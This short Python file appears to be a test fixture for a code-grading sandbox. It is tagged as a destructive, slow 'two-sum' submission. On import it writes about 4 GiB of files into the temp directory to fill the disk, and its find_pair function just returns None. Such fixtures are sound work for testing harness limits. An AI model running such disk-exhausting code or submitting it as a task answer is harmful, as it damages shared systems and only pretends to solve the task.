# task: two-sum
# harm: solved
# destructive: yes
# slow: yes
# Fills the disk with files of the largest size allowed.
import os

scratch = os.environ["TMPDIR"]
block = bytes(1 << 20)
for number in range(64):
    try:
        with open(f"{scratch}/{number}", "wb") as file:
            for _ in range(64):
                file.write(block)
    except OSError:
        pass


def find_pair(numbers, target):
    return None
